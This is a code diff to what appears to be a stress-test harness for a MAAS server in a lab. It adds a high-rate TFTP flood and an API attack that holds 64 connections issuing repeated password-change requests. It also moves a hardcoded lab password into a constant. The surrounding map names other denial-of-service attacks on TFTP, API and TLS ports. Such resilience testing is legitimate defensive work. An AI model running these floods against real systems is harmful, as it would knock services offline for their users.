@@ -15,6 +15,7 @@ import { hw, ip } from '../support/lab-facts.ts';
 import { tellSmallPath } from '../support/small-path.ts';
 import { Booter } from './boot-as-new.ts';
 import { BLIND_PORTS, bootServerRequest, HEADERS_OCTETS, SHORTEST_NAME } from './bystanders.ts';
+import { floodHeld } from './held-flood.ts';
 import { listLargeMachines } from './large-machines.ts';
 import {
   endlessReport,
@@ -30,6 +31,7 @@ import { speakForOtherWire } from './other-wire.ts';
 import { stealBoot } from './stolen-boot.ts';
 import { helloBytes, holdShaken, renegotiateOn } from './tls-words.ts';
 
+const PASSWORD = 'correct horse battery';
 const BOOT_PORT = 5248;
 const API_PORT = 5240;
 const METRICS_PORT = 5249;
@@ -302,7 +304,13 @@ function post(socket: Socket, path: string, body: string, more: readonly string[
 }
 
 const signIn = (socket: Socket, username: string): void =>
-  post(socket, '/MAAS/login/', new URLSearchParams({ username, password: 'correct horse battery' }).toString());
+  post(socket, '/MAAS/login/', new URLSearchParams({ username, password: PASSWORD }).toString());
+
+/** Sets the same password once more. */
+const changePassword = (socket: Socket): void =>
+  post(socket, '/MAAS/api/2.0/users/olga/?op=change_password', new URLSearchParams({ password: PASSWORD }).toString(), [
+    `Authorization: ${authorization(further)}`,
+  ]);
 
 const follow = (socket: Socket): boolean =>
   socket.write(
@@ -390,6 +398,8 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   },
   'tftp-blind': () => driveBlind(addresses.at(-1) ?? ''),
   'tftp-hold': () => holdTransfers(3000),
+  'tftp-held-flood': () =>
+    floodHeld({ rack, address: first, device: 'eth0', count: 1000, perSecond: 80_000, isOver, tell }),
   'tftp-absent': async () =>
     // A second request from the same port is a copy, and starts nothing.
     flood(await everyAddress(20), 12_000, 69, () => readRequest(['blksize', '1428', 'windowsize', '64'])),
@@ -480,6 +490,7 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
     return holdConnections(API_PORT, 128, guess);
   },
   'api-followers': () => holdConnections(API_PORT, 200, follow),
+  'api-new-passwords': () => holdConnections(API_PORT, 64, changePassword),
   'api-sessions': () => holdConnections(API_PORT, 64, (socket) => signIn(socket, 'mallory')),
   'api-ordinary': async () => {
     let turn = 0;
